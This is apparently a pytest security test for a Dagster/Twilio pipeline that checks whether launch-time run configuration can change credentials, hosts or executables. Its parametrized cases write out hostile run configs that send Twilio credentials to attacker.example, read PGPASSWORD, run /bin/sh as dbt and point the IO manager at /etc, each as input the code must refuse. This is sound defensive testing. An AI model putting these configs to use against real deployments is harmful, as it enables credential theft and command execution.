"""Nothing that decides where credentials go, which secret is read or what runs can be set when a run is
launched: Dagster's open-source UI has no login, so its Launchpad (and GraphQL) is open to whoever reaches it.

Every job's run-config schema is walked leaf by leaf, so a resource or executor field added later fails here."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import dagster as dg
import pytest
from dagster._config import ConfigType, ConfigTypeKind

EXAMPLE = Path(__file__).resolve().parents[2] / "twilio_instances.example.yaml"

# The only launch-time settings left, and why each is harmless.
HARMLESS = {
    # The console logger's level and name.
    ("loggers", "console", "config", "log_level"),
    ("loggers", "console", "config", "name"),
}


def leaves(config_type: ConfigType, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], ConfigType]]:
    """Every settable leaf of a run-config schema, with its path."""
    kind = config_type.kind
    if ConfigTypeKind.has_fields(kind):
        for name, field in config_type.fields.items():  # type: ignore[attr-defined]
            yield from leaves(field.config_type, (*path, name))
    elif kind in (ConfigTypeKind.NONEABLE, ConfigTypeKind.ARRAY):
        yield from leaves(config_type.inner_type, path)  # type: ignore[attr-defined]
    elif kind == ConfigTypeKind.SCALAR_UNION:
        yield from leaves(config_type.scalar_type, path)  # type: ignore[attr-defined]
        yield from leaves(config_type.non_scalar_type, path)  # type: ignore[attr-defined]
    else:
        yield path, config_type


@pytest.fixture
def definitions(monkeypatch) -> dg.Definitions:
    """The code location with two instances whose every credential variable is set, so every field a
    resource could expose is bound."""
    for name in ("TWILIO_START_DATE", "TWILIO_COMPONENTS_DIR"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("TWILIO_INSTANCES_FILE", str(EXAMPLE))
    for prefix in ("TWILIO_PROD_", "TWILIO_EU_"):
        for suffix in ("ACCOUNT_SID", "AUTH_TOKEN", "API_KEY_SID", "API_KEY_SECRET", "HASH_KEY", "BASE_URL"):
            monkeypatch.setenv(prefix + suffix, "https://api.twilio.com" if suffix == "BASE_URL" else "x" * 34)
    from twilio_assets.definitions import defs

    loaded = defs()
    dg.Definitions.validate_loadable(loaded)
    return loaded


def jobs(definitions: dg.Definitions) -> list[dg.JobDefinition]:
    found = definitions.get_repository_def().get_all_jobs()
    assert {job.name for job in found} >= {"twilio_sync_job", "__ASSET_JOB"}  # a Materialize click runs the latter
    return found


def test_no_job_takes_resource_or_executor_settings_at_launch(definitions):
    for job in jobs(definitions):
        settable = [
            (path, config_type.kind)
            for path, config_type in leaves(job.run_config_schema.config_type)
            if path not in HARMLESS
            # Ops' own config: the assets declare none, and Dagster types an op without a schema `Any`
            # and hands it to no one (they are checked next).
            and not (path[0] == "ops" and path[-1] == "config" and config_type.kind == ConfigTypeKind.ANY)
            # What each asset reads as input: none reads one through an IO manager's loader.
            and not (path[0] == "ops" and "inputs" in path)
        ]
        assert not settable, f"{job.name} can be reconfigured at launch: {settable}"
        resources = job.run_config_schema.config_type.fields["resources"].config_type.fields  # type: ignore[attr-defined]
        assert {"warehouse", "dbt", "io_manager", "twilio_prod", "twilio_eu"} <= set(resources)


def test_no_asset_reads_op_config(definitions):
    for assets_def in definitions.resolve_asset_graph().assets_defs:
        if not assets_def.is_executable:
            continue  # an external asset (the dbt sources' raw tables) runs nothing
        op = assets_def.op
        schema = op.config_schema.as_field().config_type if op.config_schema else None
        assert schema is None or schema.kind == ConfigTypeKind.ANY or not getattr(schema, "fields", None), op.name


@pytest.mark.parametrize(
    "run_config",
    [
        # The review's reproductions: credentials sent to another host, any variable read, the warehouse
        # password sent elsewhere, another program run as dbt, pickles written anywhere.
        {
            "resources": {
                "twilio_prod": {
                    "config": {
                        "base_url": "http://attacker.example",
                        "account_sid": {"env": "TWILIO_PROD_ACCOUNT_SID"},
                        "auth_token": {"env": "TWILIO_PROD_AUTH_TOKEN"},
                    }
                }
            }
        },
        {"resources": {"twilio_eu": {"config": {"auth_token": {"env": "PGPASSWORD"}}}}},
        {"resources": {"warehouse": {"config": {"host": "attacker.example"}}}},
        {"resources": {"dbt": {"config": {"dbt_executable": "/bin/sh", "global_config_flags": ["-c", "id"]}}}},
        {"resources": {"io_manager": {"config": {"base_dir": "/etc"}}}},
        {"execution": {"config": {"multiprocess": {"start_method": {"forkserver": {"preload_modules": ["os"]}}}}}},
    ],
    ids=["twilio-host", "secret-by-env", "warehouse-host", "dbt-executable", "io-base-dir", "executor"],
)
def test_the_review_s_launch_configs_are_refused(definitions, run_config):
    for job in jobs(definitions):
        with pytest.raises(dg.DagsterInvalidConfigError, match="unexpected config entr"):
            dg.validate_run_config(job, run_config)


def test_the_twilio_resource_is_built_from_the_deployment_when_a_step_starts(monkeypatch, definitions):
    """Sealing keeps what the binding did: each instance reads its own variables, at run time."""
    from twilio_assets.defs.resources import TwilioResource

    monkeypatch.setenv("TWILIO_EU_ACCOUNT_SID", "AC" + "e" * 32)
    resource_def = definitions.resources["twilio_eu"]
    with dg.build_resources({"twilio_eu": resource_def}) as built:
        twilio = built.twilio_eu
        assert isinstance(twilio, TwilioResource)
        assert twilio.account_sid == "AC" + "e" * 32  # the value, not the variable's name
        assert twilio.env_prefix == "TWILIO_EU_"


def test_an_instance_without_a_base_url_does_not_borrow_another_s(monkeypatch):
    from twilio_assets.defs.resources import twilio_resource_for
    from twilio_assets.instances import load_settings

    settings = load_settings(environ={"TWILIO_INSTANCES_FILE": str(EXAMPLE)})
    eu = next(instance for instance in settings.instances if instance.env_prefix == "TWILIO_EU_")
    resource = twilio_resource_for(eu, {"TWILIO_BASE_URL": "http://127.0.0.1:8718", "TWILIO_EU_AUTH_TOKEN": "t"})
    assert resource.base_url is None
